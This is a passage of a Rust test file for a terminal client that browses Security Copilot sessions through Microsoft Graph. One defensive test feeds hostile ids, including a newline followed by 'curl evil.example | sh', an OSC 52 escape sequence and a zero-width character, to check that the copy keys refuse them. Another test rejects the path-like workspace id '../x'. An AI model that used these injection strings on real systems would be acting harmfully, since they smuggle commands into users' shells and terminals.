    );
    assert_eq!(state.focus, Focus::Detail);
    update(&mut state, mouse(MouseEventKind::ScrollDown, 80, 5));
    assert_eq!(state.reader.scroll, 3);
    update(&mut state, mouse(MouseEventKind::ScrollDown, 5, 5));
    assert_eq!(
        selected_id(&state),
        "s5",
        "the wheel over the list moves by three"
    );
    // a click on the border does nothing
    update(
        &mut state,
        mouse(MouseEventKind::Down(MouseButton::Left), 5, 1),
    );
    assert_eq!(selected_id(&state), "s5");
    state.settings.mouse = false;
    update(
        &mut state,
        mouse(MouseEventKind::Down(MouseButton::Left), 5, 2),
    );
    assert_eq!(selected_id(&state), "s5", "mouse off: ignored");
}

#[test]
fn sort_cycles_and_keeps_the_selection() {
    let mut state = State::new("default", "demo");
    init(&mut state);
    let mut a = session("a", Some("Zulu"), 50);
    a.created_date_time = Some(GraphTime::new("2026-01-01T00:00:00Z"));
    let mut b = session("b", Some("alpha"), 40);
    b.created_date_time = Some(GraphTime::new("2026-01-30T00:00:00Z"));
    let c = session("c", None, 30);
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page(vec![a, b, c], None),
        }),
    );
    let order = |s: &State| {
        s.list
            .visible()
            .iter()
            .map(|&i| s.list.entries()[i].session.id.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(order(&state), ["a", "b", "c"]);
    update(&mut state, ch('j'));
    update(&mut state, ch('s'));
    assert_eq!(
        order(&state),
        ["c", "b", "a"],
        "by created, newest first (c: 01-31, b: 01-30)"
    );
    assert_eq!(selected_id(&state), "b");
    update(&mut state, ch('s'));
    assert_eq!(order(&state), ["b", "a", "c"], "by name, untitled last");
    update(&mut state, ch('s'));
    assert_eq!(order(&state), ["a", "b", "c"]);
}

#[test]
fn copy_keys_send_osc52_requests() {
    let mut state = loaded(1, None);
    state.settings.graph_url = "https://graph.microsoft.com/beta".into();
    assert_eq!(
        update(&mut state, ch('y')),
        Effect::Copy {
            text: "s0".into(),
            what: "the session id".into()
        }
        .into()
    );
    assert_eq!(
        update(&mut state, ch('Y')),
        Effect::Copy {
            text: "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/default/sessions/s0".into(),
            what: "the Graph URL".into()
        }
        .into()
    );
    // the status says what the runtime reports, no more
    use crate::output::Copied;
    let said = |state: &mut State, copied| {
        update(
            state,
            Msg::Copied {
                what: "the Graph URL".into(),
                copied,
            },
        );
        state.status.clone().unwrap()
    };
    let s = said(&mut state, Copied::Program("wl-copy"));
    assert_eq!(s.text, "Copied the Graph URL to the clipboard (wl-copy)");
    let s = said(&mut state, Copied::Osc52 { tmux: false });
    assert!(
        s.text
            .starts_with("Sent the Graph URL to the terminal's clipboard (OSC 52"),
        "{}",
        s.text
    );
    let s = said(&mut state, Copied::TmuxDrops);
    assert_eq!(s.severity, Severity::Warning);
    assert!(s.text.contains("set-clipboard on"), "{}", s.text);
}

#[test]
fn copy_keys_copy_exactly_what_is_shown_and_refuse_hidden_characters() {
    let with_id = |id: &str| {
        let mut state = State::new("default", "demo");
        state.viewport = (100, 14);
        init(&mut state);
        page_arrives(
            &mut state,
            true,
            page(vec![session(id, Some("x"), 1)], None),
        );
        state.settings.graph_url = "https://graph.microsoft.com/beta".into();
        state.set_workspace("w s".into());
        state
    };
    let mut state = with_id("a b");
    let url =
        "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/w%20s/sessions/a%20b";
    assert!(matches!(
        update(&mut state, ch('Y')).effects.as_slice(),
        [Effect::Copy { text, .. }] if text == url
    ));
    // pastejacking: a newline and a shell command in the id
    for hostile in [
        "s0\ncurl evil.example | sh\n",
        "s0\u{1b}]52;c;eA==\u{7}",
        "s\u{200B}0",
    ] {
        let mut state = with_id(hostile);
        assert_eq!(update(&mut state, ch('y')), Output::none(), "{hostile:?}");
        assert_eq!(update(&mut state, ch('Y')), Output::none(), "{hostile:?}");
        assert!(
            state
                .status
                .as_ref()
                .unwrap()
                .text
                .starts_with("Not copied")
        );
    }
}

#[test]
fn workspace_picker_switches_and_reloads() {
    let mut state = loaded(3, None);
    let commands = update(&mut state, ch('w')).commands;
    let [Command::LoadWorkspaces { req }] = commands[..] else {
        panic!("{commands:?}")
    };
    let ws = |id: &str, name: &str| sctui_graph::models::Workspace {
        id: id.into(),
        display_name: Some(name.into()),
    };
    update(
        &mut state,
        Msg::Worker(Event::WorkspacesLoaded {
            req,
            workspaces: vec![ws("default", "Contoso SOC"), ws("other", "Fabrikam")],
        }),
    );
    update(&mut state, ch('j'));
    let out = update(&mut state, key(KeyCode::Enter));
    assert_eq!(
        out.commands,
        vec![
            Command::OpenWorkspace {
                req: state.requests.stored_list().expect("opening"),
                workspace: "other".into()
            },
            Command::LoadFirstPage {
                req: page_req(&state),
                query: ListQuery {
                    count: true,
                    ..ListQuery::default()
                }
            },
        ]
    );
    assert_eq!(
        out.effects,
        [Effect::RememberWorkspace {
            id: "other".into(),
            remember_as: "demo".into()
        }]
    );
    assert_eq!(page_req(&state).epoch, req.epoch + 1, "a new epoch");
    assert_eq!(state.workspace, "other");
    assert_eq!(state.workspace_name.as_deref(), Some("Fabrikam"));
    assert!(
        state.list.entries().is_empty(),
        "the old workspace's list is gone"
    );
    assert!(matches!(state.mode, Mode::Browsing));
}

#[test]
fn answers_still_running_when_loaded_are_followed() {
    let mut state = loaded(1, None);
    update(&mut state, Msg::Settled);
    let req = conversation_req(&state, "s0");
    // a revalidation already on its way when the follow starts
    let revalidation = state.requests.start(super::Pending::Conversation {
        session_id: "s0".into(),
    });
    let commands = update(
        &mut state,
        Msg::Worker(Event::ConversationLoaded {
            req,
            session_id: "s0".into(),
            runs: vec![
                Turn {
                    prompt: prompt("p1", "done"),
                    evaluation: Some(evaluation("e1", "completed", Some(("success", Some("a"))))),
                },
                Turn {
                    prompt: prompt("p2", "busy"),
                    evaluation: Some(evaluation("e2", "running", None)),
                },
            ]
            .into_iter()
            .map(Into::into)
            .collect(),
        }),
    );
    let [
        Command::Follow {
            session_id,
            prompt_id,
            evaluation_id,
            ..
        },
    ] = commands.commands.as_slice()
    else {
        panic!("{commands:?}")
    };
    assert_eq!(
        (
            session_id.as_str(),
            prompt_id.as_str(),
            evaluation_id.as_str()
        ),
        ("s0", "p2", "e2")
    );
    assert!(state.is_following("s0"));
    // a revalidation while following keeps the followed turn and sends no second follow
    state.now = "2026-02-01T00:00:00Z".parse().unwrap();
    let again = update(
        &mut state,
        Msg::Worker(Event::ConversationLoaded {
            req: revalidation,
            session_id: "s0".into(),
            runs: vec![Turn {
                prompt: prompt("p2", "busy"),
                evaluation: Some(evaluation("e2", "running", None)),
            }]
            .into_iter()
            .map(Into::into)
            .collect(),
        }),
    );
    assert!(again.is_empty());
}

/// Session `i` modified `secs` seconds before 2026-02-01T00:00:00Z.
fn aged(i: usize, secs: i64) -> Session {
    let t = jiff::Timestamp::from_second(1_769_904_000 - secs).unwrap();
    Session {
        id: format!("id{i:05}"),
        display_name: Some(format!(
            "Session {} {}",
            ["alpha", "beta", "gamma"][i % 3],
            i
        )),
        created_date_time: Some(GraphTime::from_timestamp(t)),
        last_modified_date_time: Some(GraphTime::from_timestamp(t)),
    }
}

#[test]
fn holding_j_to_the_end_of_10000_sessions_prefetches_each_page_once_and_never_stalls() {
    const PAGE: usize = 100;
    const TOTAL: usize = 10_000;
    // Graph answers newest first, a page at a time; the answer lands a few keys after the ask.
    let page_of = |n: usize| -> Page<Session> {
        let value = (n * PAGE..(n + 1) * PAGE)
            .map(|i| aged(i, i as i64 * 60))
            .collect();
        let next = (n + 1 < TOTAL / PAGE).then(|| format!("http://h/next?p={}", n + 1));
        Page {
            value,
            next_link: next,
            count: None,
        }
    };
    let mut state = State::new("default", "demo");
    state.viewport = (100, 14);
    init(&mut state);
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page_of(0),
        }),
    );
    let mut asked: Vec<String> = Vec::new();
    let mut pending: Option<(usize, usize)> = None; // (page, keys until it lands)
    let mut keys = 0;
    while state.list.selected() + 1 < TOTAL {
        assert!(keys < 3 * TOTAL, "the selection stopped moving");
        for command in update(&mut state, ch('j')).commands {
            match command {
                Command::LoadNextPage { req, link } => {
                    assert_eq!(Some(req), state.requests.page());
                    assert!(pending.is_none(), "two pages in flight");
                    assert!(!asked.contains(&link), "{link} asked twice");
                    // asked ahead of need: well before the selection reaches the end
                    assert!(state.list.visible().len() - state.list.selected() > 10);
                    let n: usize = link.rsplit('=').next().unwrap().parse().unwrap();
                    asked.push(link);
                    pending = Some((n, 5));
                }
                other => panic!("unexpected {other:?}"),
            }
        }
        keys += 1;
        if let Some((n, left)) = pending {
            if left == 0 {
                pending = None;
                let req = page_req(&state);
                let more = update(
                    &mut state,
                    Msg::Worker(Event::PageLoaded {
                        req,
                        first: false,
                        page: page_of(n),
                    }),
                );
                // (the last page ends the listing: the store forgets what it left out)
                assert!(
                    more.effects.is_empty()
                        && more
                            .commands
                            .iter()
                            .all(|c| matches!(c, Command::Forget { .. })),
                    "next page asked while landing one: {more:?}"
                );
            } else {
                pending = Some((n, left - 1));
            }
        }
        // never at the end of what is loaded while more is on its way
        if state.paging.next_link.is_some() || pending.is_some() {
            assert!(
                state.list.selected() + 1 < state.list.visible().len(),
                "stalled at {}",
                state.list.selected()
            );
        }
    }
    assert_eq!(asked.len(), TOTAL / PAGE - 1);
    assert_eq!(state.list.entries().len(), TOTAL);
    assert_eq!(selected_id(&state), format!("id{:05}", TOTAL - 1));
    assert_eq!(keys, TOTAL - 1, "one row per key, no key lost to a stall");
    assert!(update(&mut state, ch('j')).commands.is_empty());
}

/// Next pages merged into the list give exactly what sorting everything at once gives: order,
/// index, filter and selection, whatever order the pages come in.
#[test]
fn merged_pages_match_a_full_sort_in_every_order() {
    use super::state::SortOrder;
    // Ages from a small LCG, so pages interleave with what is loaded.
    let mut x: u64 = 42;
    let mut age = move || {
        x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        ((x >> 33) % 100_000) as i64
    };
    let all: Vec<Session> = (0..1_000).map(|i| aged(i, age())).collect();
    for sort in [SortOrder::LastModified, SortOrder::Created, SortOrder::Name] {
        for filter in ["", "beta"] {
            let fresh = |sort| {
                let mut s = State::new("default", "demo");
                s.viewport = (100, 14);
                init(&mut s);
                while s.list.sort() != sort {
                    update(&mut s, ch('s'));
                }
                if !filter.is_empty() {
                    update(&mut s, ch('/'));
                    typed(&mut s, filter);
                    update(&mut s, key(KeyCode::Enter));
                }
                s
            };
            let mut merged = fresh(sort);
            let mut at_once = fresh(sort);
            for (n, chunk) in all.chunks(100).enumerate() {
                let mut value = chunk.to_vec();
                if n == 4 {
                    // a later page repeats (and moves) sessions already loaded
                    let mut moved = all[3].clone();
                    moved.last_modified_date_time = Some(GraphTime::new("2026-03-01T00:00:00Z"));
                    moved.created_date_time = moved.last_modified_date_time.clone();
                    moved.display_name = Some("Aaa moved beta".into());
                    value.push(moved);
                    value.push(all[150].clone());
                }
                // every page answers a request (a first page a refresh, the others a prefetch)
                let req = match (n, merged.requests.page()) {
                    (0, _) | (_, None) => merged
                        .requests
                        .start(super::Pending::Page { first: n == 0 }),
                    (_, Some(req)) => req,
                };
                update(
                    &mut merged,
                    Msg::Worker(Event::PageLoaded {
                        req,
                        first: n == 0,
                        page: page(value, Some("http://h/next")),
                    }),
                );
                // move around so the kept selection is tested too
                update(&mut merged, key(KeyCode::Down));
                update(&mut merged, key(KeyCode::Down));
            }
            let mut everything = all.clone();
            everything[3] = merged.list.get("id00003").unwrap().session.clone();
            let req = page_req(&at_once);
            update(
                &mut at_once,
                Msg::Worker(Event::PageLoaded {
                    req,
                    first: true,
                    page: page(everything, None),
                }),
            );
            let ids = |s: &State| -> Vec<String> {
                s.list
                    .entries()
                    .iter()
                    .map(|e| e.session.id.clone())
                    .collect()
            };
            assert_eq!(ids(&merged), ids(&at_once), "{sort:?} /{filter}");
            assert_eq!(
                merged.list.visible(),
                at_once.list.visible(),
                "{sort:?} /{filter}"
            );
            merged.list.check(10).unwrap();
            at_once.list.check(10).unwrap();
            let kept = merged.selected_entry().unwrap().session.id.clone();
            assert_eq!(merged.list.visible().len(), at_once.list.visible().len());
            assert!(
                merged.list.selected() < merged.list.visible().len(),
                "{kept}"
            );
        }
    }
}

// ---- sign-in popup ----

#[test]
fn without_a_token_the_app_opens_on_the_sign_in_popup_then_loads() {
    let mut state = State::new("default", "device code");
    state.signed_in = false;
    let commands = init(&mut state).commands;
    let [Command::OpenWorkspace { .. }, Command::StartSignIn { req }] = commands[..] else {
        panic!("{commands:?}")
    };
    assert!(matches!(state.mode, Mode::SigningIn(_)));
    assert!(state.busy());
    update(
        &mut state,
        Msg::Worker(Event::SignInPrompt {
            req,
            verification_uri: "https://microsoft.com/devicelogin".into(),
            user_code: "ABCD-1234".into(),
            message: "To sign in…".into(),
        }),
    );
    assert_eq!(
        update(&mut state, ch('y')),
        Effect::Copy {
            text: "ABCD-1234".into(),
            what: "the sign-in code".into()
        }
        .into()
    );
    let commands = update(
        &mut state,
        Msg::Worker(Event::SignedIn {
            req,
            who: Some("alex@contoso.example".into()),
        }),
    );
    assert!(matches!(
        commands.commands.as_slice(),
        [Command::LoadFirstPage { .. }]
    ));
    assert_eq!(state.who, "alex@contoso.example");
    assert!(matches!(state.mode, Mode::Browsing));
}

#[test]
fn sign_in_can_be_cancelled_retried_and_reports_failures() {
    let mut state = State::new("default", "device code");
    state.signed_in = false;
    init(&mut state);
    assert_eq!(
        update(&mut state, key(KeyCode::Esc)),
        Command::CancelSignIn.into()
    );
    assert!(matches!(state.mode, Mode::Browsing));
    assert!(!state.busy());
    let commands = update(&mut state, ch('R')).commands;
    let [Command::StartSignIn { req }] = commands[..] else {
        panic!("R signs in again: {commands:?}")
    };
    update(
        &mut state,
        Msg::Worker(Event::SignInFailed {
            req,
            error: sctui_graph::auth::AuthError::CodeExpired.into(),
        }),
    );
    match &state.mode {
        Mode::SigningIn(p) => assert!(
            p.error
                .as_ref()
                .map(Problem::words)
                .unwrap()
                .contains("expired")
        ),
        other => panic!("{other:?}"),
    }
    assert!(
        matches!(
            update(&mut state, key(KeyCode::Enter)).commands[..],
            [Command::StartSignIn { .. }]
        ),
        "Enter retries"
    );
}

#[test]
fn a_failed_rename_while_another_popup_is_open_comes_back_afterwards() {
    let mut state = loaded(2, None);
    update(&mut state, ch('r'));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    typed(&mut state, "Keep this name");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Rename { req, .. } = commands[0].clone() else {
        panic!()
    };
    update(&mut state, ch('?'));
    update(
        &mut state,
        Msg::Worker(Event::RenameFailed {
            id: "s0".into(),
            name: "Keep this name".into(),
            req,
            error: api_error(503),
        }),
    );
    assert!(matches!(state.mode, Mode::Help(_)), "the help stays open");
    assert!(
        state
            .status
            .as_ref()
            .unwrap()
            .text
            .contains("Keep this name"),
        "the name is in the message"
    );
    update(&mut state, key(KeyCode::Esc));
    match &state.mode {
        Mode::Renaming(e) => assert_eq!(e.input.value(), "Keep this name"),
        other => panic!("the editor should come back: {other:?}"),
    }
}

// ---- the request ledger ----

/// Opens the picker, lists two workspaces and picks the second: a new epoch.
fn switch_to_other_workspace(state: &mut State) -> Output {
    let commands = update(state, ch('w')).commands;
    let [Command::LoadWorkspaces { req }] = commands[..] else {
        panic!("{commands:?}")
    };
    let ws = |id: &str| sctui_graph::models::Workspace {
        id: id.into(),
        display_name: Some(id.into()),
    };
    update(
        state,
        Msg::Worker(Event::WorkspacesLoaded {
            req,
            workspaces: vec![ws("default"), ws("other")],
        }),
    );
    update(state, ch('j'));
    update(state, key(KeyCode::Enter))
}

#[test]
fn after_a_workspace_switch_every_late_answer_is_dropped_and_follows_are_stopped() {
    let mut state = loaded(3, None);
    // one request of each kind in flight in the old workspace
    update(&mut state, Msg::Settled);
    let conversation = conversation_req(&state, "s0");
    let ask = ask_new(&mut state, "old question");
    created_and_asked(&mut state, ask, "asked-old");
    update(&mut state, ch('r'));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    typed(&mut state, "late name");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [Command::Rename { req: rename, .. }] = commands[..] else {
        panic!("{commands:?}")
    };
    update(&mut state, ch('e'));
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [Command::Export { req: export, .. }] = commands[..] else {
        panic!("{commands:?}")
    };
    assert!(state.is_following("asked-old"));

    let out = switch_to_other_workspace(&mut state);
    assert!(
        out.commands.contains(&Command::StopFollow { req: ask }),
        "the old workspace's follow is stopped: {out:?}"
    );
    let new_load = page_req(&state);
    assert_eq!(
        state.requests.len(),
        2,
        "only the new workspace's opening and first page are awaited"
    );
    assert!(!state.is_following("asked-old"));

    // late answers of every kind from the old workspace change nothing
    let before = format!(
        "{:?}",
        (state.list.entries(), &state.conversations, &state.status)
    );
    for event in [
        Event::ConversationLoaded {
            req: conversation,
            session_id: "s0".into(),
            runs: vec![Turn {
                prompt: prompt("p", "q"),
                evaluation: None,
            }]
            .into_iter()
            .map(Into::into)
            .collect(),
        },
        Event::EvaluationUpdated {
            req: ask,
            session_id: "asked-old".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation("e1", "completed", Some(("success", Some("late")))),
        },
        Event::FollowEnded {
            req: ask,
            session_id: "asked-old".into(),
            result: Ok(()),
        },
        Event::Renamed {
            req: rename,
            session: session("s0", Some("late name"), 1),
        },
        Event::Exported {
            req: export,
            path: "late.md".into(),
        },
        Event::PageLoaded {
            req: RequestId {
                epoch: new_load.epoch - 1,
                seq: new_load.seq,
            },
            first: true,
            page: page(vec![session("ghost", Some("ghost"), 1)], None),
        },
    ] {
        let out = update(&mut state, Msg::Worker(event));
        assert!(out.is_empty(), "{out:?}");
    }
    assert_eq!(
        format!(
            "{:?}",
            (state.list.entries(), &state.conversations, &state.status)
        ),
        before
    );
    assert_eq!(
        state.requests.page(),
        Some(new_load),
        "the new load still awaited"
    );
}

/// Presses `w` and returns the workspace-list request it starts.
fn open_picker(state: &mut State) -> RequestId {
    let commands = update(state, ch('w')).commands;
    let [Command::LoadWorkspaces { req }] = commands[..] else {
        panic!("{commands:?}")
    };
    req
}

#[test]
fn a_workspace_id_can_be_typed_when_the_list_cannot_be_read() {
    let mut state = loaded(3, None);
    let req = open_picker(&mut state);
    update(
        &mut state,
        Msg::Worker(Event::WorkspacesFailed {
            req,
            error: api_error(403),
        }),
    );
    let Mode::PickingWorkspace(picker) = &state.mode else {
        panic!("the picker stays open: {:?}", state.mode);
    };
    assert!(picker.typed.is_some(), "the id field is open");
    assert!(
        picker
            .error
            .as_ref()
            .map(Problem::words)
            .is_some_and(|e| e.contains("403"))
    );

    // A path-like id is refused in place; nothing is sent.
    typed(&mut state, "../x");
    assert!(update(&mut state, key(KeyCode::Enter)).commands.is_empty());
    let Mode::PickingWorkspace(picker) = &state.mode else {
        panic!("still picking");
    };
    assert!(
        picker
            .error
            .as_ref()
            .map(Problem::words)
            .is_some_and(|e| e.contains("cannot"))
    );

    for _ in 0..4 {
        update(&mut state, key(KeyCode::Backspace));
    }
    typed(&mut state, "soc-emea");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    assert!(
        matches!(commands.first(), Some(Command::OpenWorkspace { workspace, .. }) if workspace == "soc-emea"),
        "{commands:?}"
    );
    assert_eq!(state.workspace, "soc-emea");
    assert!(matches!(state.mode, Mode::Browsing));

    // With a list, `i` opens the field and Esc goes back to the list.
    let req = open_picker(&mut state);
    update(
        &mut state,
        Msg::Worker(Event::WorkspacesLoaded {
            req,
            workspaces: vec![sctui_graph::models::Workspace {
                id: "default".into(),
                display_name: None,
            }],
        }),
    );
    update(&mut state, ch('i'));
    assert!(matches!(&state.mode, Mode::PickingWorkspace(p) if p.typed.is_some()));
    update(&mut state, key(KeyCode::Esc));
    assert!(matches!(&state.mode, Mode::PickingWorkspace(p) if p.typed.is_none()));
}

#[test]
fn a_404_on_the_list_points_at_the_workspace_key_or_the_graph_url() {
    let mut state = loaded(1, None);
    state.set_workspace("nope".into());
    let fail = |state: &mut State, graph_url: &str, status: u16| -> String {
        state.settings.graph_url = graph_url.into();
        update(state, ch('R'));
        let req = page_req(state);
        update(
            state,
            Msg::Worker(Event::PageFailed {
                req,
                error: api_error(status),
            }),
        );
        state.status.as_ref().expect("a status").text.to_string()
    };
    let text = fail(&mut state, "https://graph.microsoft.com/beta", 404);
    assert!(
        text.starts_with("workspace nope not found? Press w to pick another · "),
        "{text}"
    );
    let text = fail(&mut state, "http://127.0.0.1:8080", 404);
    assert!(text.contains("http://127.0.0.1:8080/beta"), "{text}");
    // Other failures get no hint.
    let text = fail(&mut state, "http://127.0.0.1:8080", 503);
    assert!(text.starts_with("Could not load sessions"), "{text}");
}

// ---------------------------------------------------------------------------------------------
// Messages, the prompt box editor, retrying a question that was saved but not run
// ---------------------------------------------------------------------------------------------

/// The one effect of `out`: a copy, whose text is returned.
fn copied(out: Output) -> String {
    match out.effects.as_slice() {
        [Effect::Copy { text, .. }] => text.clone(),
        other => panic!("expected a copy, got {other:?}"),
    }
}

#[test]
fn messages_have_levels_info_expires_errors_stay_and_all_are_logged() {
    let mut state = loaded(2, None);
    state.now = "2026-01-31T12:00:00Z".parse().unwrap();
    update(&mut state, ch('s'));
    assert_eq!(state.status.as_ref().unwrap().severity, Severity::Info);
    // time passes: the info message leaves by itself
    let later = |s: &str| Msg::Clock(s.parse().unwrap());
    update(&mut state, later("2026-01-31T12:00:03Z"));
    assert!(state.status.is_some());
    update(&mut state, later("2026-01-31T12:00:10Z"));
    assert!(state.status.is_none(), "info expires");
    // a rename that fails: an error with Graph's request-id
    update(&mut state, ch('r'));
    typed(&mut state, "x");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Rename { req, id, name } = commands[0].clone() else {
        panic!("{commands:?}")
    };
    update(
        &mut state,
        Msg::Worker(Event::RenameFailed {
            req,
            id,
            name,
            error: api_error(503),
        }),
    );
    update(&mut state, key(KeyCode::Esc)); // leaves the reopened editor
    update(&mut state, later("2026-01-31T13:00:00Z"));
    assert_eq!(
        state.status.as_ref().map(|s| s.severity),
        Some(Severity::Error),
        "errors stay until dismissed"
    );
    update(&mut state, ch('j'));
    assert!(
        state.status.is_some(),
        "a key other than Esc keeps the error"
    );
    update(&mut state, key(KeyCode::Esc));
    assert!(state.status.is_none(), "Esc dismisses");
    // the log kept every message, in full, with the request-id
    let last = state.messages.last().unwrap();
    assert_eq!(last.message.severity, Severity::Error);
    assert_eq!(last.message.request_id.as_deref(), Some("rid-1"));
    // m lists them; y copies the selected one (the newest) in full, Enter too
    update(&mut state, ch('m'));
    assert!(matches!(state.mode, Mode::Messages(_)));
    let text = copied(update(&mut state, ch('y')));
    assert!(text.starts_with("12:00:10 error: Rename to "), "{text}");
    assert!(text.ends_with("(request-id rid-1)"), "{text}");
    for _ in 0..state.messages.len() {
        update(&mut state, ch('k'));
    }
    let text = copied(update(&mut state, key(KeyCode::Enter)));
    assert!(text.contains("info: Sorted by created"), "{text}");
    update(&mut state, key(KeyCode::Esc));
    assert!(matches!(state.mode, Mode::Browsing));
}

#[test]
fn esc_in_the_list_clears_a_kept_filter_and_a_filtered_selection_loads_its_conversation() {
    let mut state = loaded(3, None);
    update(&mut state, Msg::Settled);
    update(&mut state, ch('/'));
    for c in "Session 2".chars() {
        let out = update(&mut state, ch(c));
        if c == '2' {
            assert!(
                out.effects.contains(&Effect::Arm(Timer::Settle)),
                "the new selection's conversation loads: {out:?}"
            );
        }
    }
    assert_eq!(selected_id(&state), "s2");
    let commands = update(&mut state, Msg::Settled).commands;
    assert!(
        matches!(commands.as_slice(), [Command::LoadConversation { session_id, .. }] if session_id == "s2"),
        "{commands:?}"
    );
    update(&mut state, key(KeyCode::Enter));
    assert_eq!(state.list.visible().len(), 1);
    update(&mut state, key(KeyCode::Esc));
    assert_eq!(state.list.visible().len(), 3, "Esc cleared the kept filter");
    assert_eq!(state.filter_text(), "");
}

/// Esc peels one layer: an info message goes with any key, so Esc after one clears the kept
/// filter; a warning is the layer Esc takes first.
#[test]
fn esc_over_an_info_message_clears_the_filter_and_over_a_warning_only_the_warning() {
    let mut state = loaded(3, None);
    update(&mut state, ch('/'));
    for c in "Session 2".chars() {
        update(&mut state, ch(c));
    }
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch('s'));
    assert_eq!(
        state.status.as_ref().map(|s| s.severity),
        Some(Severity::Info)
    );
    update(&mut state, key(KeyCode::Esc));
    assert!(state.status.is_none());
    assert_eq!(state.filter_text(), "", "Esc cleared the kept filter");

    // a filter nothing matches: asking has no session to ask in
    update(&mut state, ch('/'));
    for c in "zzz".chars() {
        update(&mut state, ch(c));
    }
    update(&mut state, key(KeyCode::Enter));
    let out = update(&mut state, ch('a'));
    assert_eq!(
        out.status, None,
        "update applies the status it was asked for"
    );
    let warned = state.status.clone();
    assert_eq!(warned.as_ref().map(|s| s.severity), Some(Severity::Warning));
    update(&mut state, key(KeyCode::Esc));
    assert!(state.status.is_none(), "Esc took the warning");
    assert_eq!(state.filter_text(), "zzz", "and left the filter");
    assert_eq!(
        state.messages.last().map(|m| &m.message),
        warned.as_ref(),
        "the warning was logged"
    );
}

#[test]
fn a_one_key_draft_is_not_kept_to_start_the_next_question() {
    let mut state = loaded(1, None);
    // `n` opens the box, a second `n` lands in it, Esc closes it
    update(&mut state, ch('n'));
    update(&mut state, ch('n'));
    update(&mut state, key(KeyCode::Esc));
    assert!(state.drafts.is_empty(), "{:?}", state.drafts);
    update(&mut state, ch('n'));
    typed(&mut state, "Line one title");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [Command::Ask { text, .. }] = commands.as_slice() else {
        panic!("{commands:?}")
    };
    assert_eq!(text, "Line one title");
}

#[test]
fn prompt_box_pastes_cr_lines_edits_by_line_and_keeps_the_draft() {
    let mut state = loaded(1, None);
    update(&mut state, ch('n'));
    update(
        &mut state,
        Msg::Paste("line one\rline two\r\nline three".into()),
    );
    update(&mut state, key(KeyCode::Up));
    update(&mut state, key(KeyCode::Home));
    typed(&mut state, "> ");
    update(&mut state, key(KeyCode::Esc));
    assert!(matches!(state.mode, Mode::Browsing));
    update(&mut state, ch('n'));
    let Mode::Creating(b) = &state.mode else {
        panic!()
    };
    assert_eq!(
        b.input.value(),
        "line one\n> line two\nline three",
        "draft kept"
    );
    // Ctrl-G hands the text to the external editor; what it leaves replaces it
    let out = update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('g'), KeyModifiers::CONTROL)),
    );
    assert!(
        matches!(out.effects.as_slice(), [Effect::Edit(text)] if text.contains("> line two")),
        "{out:?}"
    );
    update(&mut state, Msg::Edited(Ok("edited\r\nby vi\n".into())));
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [Command::Ask { text, .. }] = commands.as_slice() else {
        panic!("{commands:?}")
    };
    assert_eq!(text, "edited\nby vi");
    assert!(state.drafts.is_empty(), "sent: no draft left");
}

#[test]
fn a_saved_question_whose_run_failed_is_shown_and_retried_without_a_second_post() {
    let mut state = loaded(1, None);
    update(&mut state, ch('a'));
    typed(&mut state, "why?");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [
        Command::Ask {
            req,
            session: Some(target),
            ..
        },
    ] = commands.as_slice()
    else {
        panic!("{commands:?}")
    };
    let (req, target) = (*req, target.clone());
    update(
        &mut state,
        Msg::Worker(Event::AskFailed {
            req,
            session: target.clone(),
            prompt: Some(prompt("p1", "why?")),
            error: api_error(500),
        }),
    );
    assert!(
        matches!(state.mode, Mode::Browsing),
        "no box to post it again"
    );
    let status = state.status.clone().unwrap();
    assert!(
        status.text.contains("saved but could not be run")
            && status.text.contains("t runs it again"),
        "{}",
        status.text
    );
    let turn = &state.conversations["s0"].turns[0];
    assert_eq!(turn.prompt.id, "p1");
    let not_run = turn.not_run.as_ref().expect("why it did not run");
    assert!(not_run.words().starts_with("not run: "), "{not_run}");
    assert!(not_run.words().contains("500"), "{not_run}");
    assert_eq!(
        not_run.request_id(),
        Some("rid-1"),
        "kept apart from the words"
    );
    assert!(state.selected_can_retry());
    // t runs that prompt's evaluation: no Ask, no new prompt
    let commands = update(&mut state, ch('t')).commands;
    let [
        Command::Evaluate {
            req,
            session_id,
            prompt_id,
        },
    ] = commands.as_slice()
    else {
        panic!("{commands:?}")
    };
    assert_eq!((session_id.as_str(), prompt_id.as_str()), ("s0", "p1"));
    let req = *req;
    assert!(!state.selected_can_retry(), "running now");
    assert!(state.busy());
    update(
        &mut state,
        Msg::Worker(Event::EvaluateFailed {
            req,
            session_id: "s0".into(),
            prompt_id: "p1".into(),
            error: api_error(503),
        }),
    );
    assert!(
        state.selected_can_retry(),
        "failed again: t is offered again"
    );
    assert!(!state.busy());
    let commands = update(&mut state, ch('t')).commands;
    assert!(matches!(commands.as_slice(), [Command::Evaluate { .. }]));
}

/// The header's "complete" time is when a listing last reached its end; a list
/// with pages still to come is not complete.
#[test]
fn a_listing_that_reaches_its_end_marks_the_list_complete() {
    let state = loaded(3, None);
    assert_eq!(state.paging.complete, Some(state.now));
    assert!(!state.list_incomplete());
    let mut state = loaded(3, Some("http://h/next"));
    assert_eq!(state.paging.complete, None);
    assert!(state.list_incomplete());
    state.now = "2026-02-01T00:00:00Z".parse().unwrap();
    update(&mut state, key(KeyCode::Char('G')));
    page_arrives(
        &mut state,
        false,
        page(vec![session("late", Some("Late"), 1)], None),
    );
    assert_eq!(state.paging.complete, Some(state.now));
    assert!(!state.list_incomplete());
